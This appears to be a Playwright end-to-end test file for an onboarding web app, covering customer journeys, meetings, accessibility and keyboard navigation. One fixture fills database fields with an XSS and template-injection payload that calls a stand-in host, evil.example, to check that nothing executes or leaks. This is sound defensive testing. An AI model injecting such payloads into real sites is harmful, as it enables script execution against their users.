"""A whole journey in a real browser, on a phone and at a desktop; the customer runs no scripts (O-03, O-07)."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import Engine
from sqlmodel import select

from desk.onboarding_words import WORDS
from models.customer import Contact, Customer
from tasks.database import database_engine, writing
from tests.browsers import PHONE, needs_chromium, sit_down
from tests.filing_room import one, rows
from tests.journey_room import JAAN, KOIVU, KUUSK, SHORT, a_token, begin, do, open_sales, run, tell, write_template
from tests.visitors import Visitor

pytestmark = needs_chromium
DESKTOP = {"width": 1280, "height": 900}
TODAY = datetime.now(UTC).date()
ET = WORDS["et"]
RUN = "top.ran=1;alert(1);fetch('http://evil.example/')"
EVIL = f'<script>{RUN}</script><img src=x onerror="{RUN}">"\'><svg onload={RUN}>{{{{7*7}}}}'
FITS = "document.documentElement.scrollWidth <= innerWidth"
NAMELESS = """() => [...document.querySelectorAll('input:not([type=hidden]), select, textarea, button, progress')]
    .filter(e => !(e.labels?.length || e.ariaLabel || e.title || e.textContent.trim())).map(e => e.outerHTML)"""


@pytest.fixture
def sales(home: Path, sqlite_url: str) -> Engine:
    return open_sales(database_engine(), home)


@pytest.fixture(params=[PHONE, DESKTOP], ids=["phone", "desktop"])
def screen(request: pytest.FixtureRequest) -> dict[str, Any]:
    """A size of window; the phone's is dark."""
    return {"viewport": request.param, "color_scheme": "dark" if request.param is PHONE else "light"}


@pytest.fixture
def customer(browser: Browser, served: str, screen: dict[str, Any]) -> Iterator[Page]:
    """A browser that runs no scripts and knows nobody here."""
    context = browser.new_context(base_url=served, java_script_enabled=False, **screen)
    yield context.new_page()
    context.close()


@pytest.fixture
def jaan(browser: Browser, served: str, sales: Engine, screen: dict[str, Any]) -> Iterator[Page]:
    """A sales person at the desk."""
    page = sit_down(browser, served, JAAN, **screen)
    yield page
    page.context.close()


def start_at_the_desk(jaan: Page) -> None:
    jaan.goto("/journeys")
    jaan.get_by_role("link", name="Start a journey").click()
    jaan.get_by_label("Customer").fill("kuusk")
    jaan.get_by_role("button", name="Find").click()
    jaan.get_by_role("link", name="Kuusk OÜ").click()
    jaan.get_by_label("Journey").select_option("short")
    jaan.get_by_role("button", name="Start").click()
    expect(jaan.get_by_role("status").first).to_contain_text("The journey has begun")


def path_in(letter: dict[str, Any]) -> str:
    found = re.search(r"/onboarding/[0-9a-f.]+", letter["text"])
    assert found
    return found[0].rstrip(".")


def answer_quiz(customer: Page, *choices: str) -> None:
    for number, choice in enumerate(choices):
        customer.locator(f'input[name="answer_{number}"][value="{choice}"]').check()
    customer.get_by_role("button", name=ET["send"]).click()


def test_a_customer_walks_a_whole_journey(sales: Engine, jaan: Page, customer: Page):
    start_at_the_desk(jaan)
    customer.goto(path_in(one(sales, "whole_letter", kind="onboarding_welcome")))
    expect(customer.get_by_role("progressbar", name="0/6 sammu tehtud")).to_be_visible()

    customer.locator("#next").get_by_role("button", name=ET["tick"]).click()
    expect(customer.locator("#next")).to_contain_text("Sisene")
    tell(sales, "ev-1", "first_login", datetime.now(UTC), now=datetime.now(UTC))
    customer.reload()
    answer_quiz(customer, "1", "1")
    expect(customer.get_by_role("alert")).to_contain_text(ET["again"])
    answer_quiz(customer, "2", "1")
    expect(customer.locator("#next")).to_contain_text(ET["ours"])

    jaan.goto("/journeys?responsible=" + JAAN)
    jaan.get_by_role("link", name="Kuusk OÜ").click()
    jaan.get_by_role("radio", name="call").check()
    jaan.get_by_role("button", name="15 min").click()
    jaan.get_by_role("button", name=re.compile("Done.*We check")).click()
    customer.reload()
    customer.locator("#next").get_by_role("button", name=ET["agree"]).click()
    run(sales, TODAY)

    customer.goto(path_in(one(sales, "whole_letter", kind="onboarding_satisfaction")))
    customer.get_by_role("radio", name="4").check()
    customer.get_by_label(ET["comment"]).fill("Selge ja lühike")
    customer.get_by_role("button", name=ET["score_send"]).click()
    expect(customer.locator("#score")).to_contain_text(ET["score_thanks"].format(score=4))
    assert (one(sales, "journey")["score"], one(sales, "journey_minutes")["minutes"]) == (4, 15)


def test_a_question_and_a_meeting_go_there_and_back(sales: Engine, jaan: Page, customer: Page):
    journey = begin(sales, on=TODAY)
    customer.goto(f"/onboarding/{a_token(sales, journey, on=TODAY)}")
    customer.get_by_label(ET["question_label"]).fill("Kuidas edasi?")
    customer.get_by_role("button", name=ET["question_send"]).click()
    expect(customer.locator("#question")).to_contain_text(ET["questions_wait"].format(count=1))
    customer.get_by_label(ET["meeting_time"].format(number=1)).fill("2027-01-04T10:00")
    customer.get_by_role("button", name=ET["meeting_send"]).click()
    expect(customer.locator("#meetings")).to_contain_text(ET["meeting_waits"])

    jaan.goto(f"/journeys/{journey}")
    jaan.get_by_label("Time", exact=True).fill(f"{TODAY + timedelta(days=5)}T14:00")
    jaan.get_by_label("Place or link").fill("https://meet.firm.ee/1")
    jaan.get_by_role("button", name="Confirm").click()
    customer.reload()
    customer.get_by_role("button", name=ET["accept"], exact=True).click()
    expect(customer.locator("#meetings")).to_contain_text(ET["accepted"])
    jaan.reload()
    expect(jaan.locator("#meetings")).to_contain_text("accepted")


@pytest.fixture
def hostile(sales: Engine) -> int:
    """A journey in which every stranger's word means harm."""
    with writing() as session:
        for customer in session.exec(select(Customer)):
            customer.name = EVIL + "N" * 80
        for contact in session.exec(select(Contact)):
            contact.first_name, contact.role, contact.phone = EVIL, EVIL, EVIL
    journey = begin(sales, on=TODAY)
    visitor, page = Visitor().client, f"/onboarding/{a_token(sales, journey, on=TODAY)}"
    visitor.post(f"{page}/question", data={"text": EVIL})
    visitor.post(f"{page}/meeting", data={"wish": EVIL, "times": EVIL})
    tell(sales, EVIL, EVIL, datetime.now(UTC), now=datetime.now(UTC))
    do(sales, "skip_step", journey, "extra", on=TODAY, reason=EVIL)
    return journey


def test_nothing_runs_nothing_leaves_and_every_page_fits(
    browser: Browser, served: str, sales: Engine, jaan: Page, hostile: int
):
    seen: list[str] = []
    jaan.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    jaan.on("request", lambda request: seen.extend([request.url] * ("evil.example" in request.url)))
    own = f"/onboarding/{a_token(sales, hostile, on=TODAY)}"
    for address in ("/journeys", f"/journeys/{hostile}", f"/start_journey?customer={KUUSK}", "/todos", own, f"{own}x"):
        jaan.goto(address, wait_until="load")
        jaan.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
        assert not jaan.evaluate("window.ran"), address
        assert jaan.evaluate(FITS), address
        assert jaan.evaluate(NAMELESS) == [], address
        assert "49" not in jaan.title(), address
    assert seen == []


def test_the_keyboard_walks_a_step_and_the_material_waits_for_a_click(
    browser: Browser, served: str, home: Path, sales: Engine
):
    material = "text: {et: Loe, en: Read, fi: Lue}, material: 'https://video.example/1', kind: read"
    write_template(home, SHORT.replace("text: {et: Loe, en: Read, fi: Lue}, kind: read", material))
    journey = begin(sales, KOIVU, on=TODAY)
    page = browser.new_context(base_url=served).new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"/onboarding/{a_token(sales, journey, on=TODAY)}")
    assert [url for url in asked if not url.startswith(served)] == []

    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.rel") == "noopener noreferrer"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator("#next")).to_contain_text("Kirjaudu")
    assert [row["state"] for row in rows(sales, "journey_step", step="hello")] == ["done"]
    page.context.close()
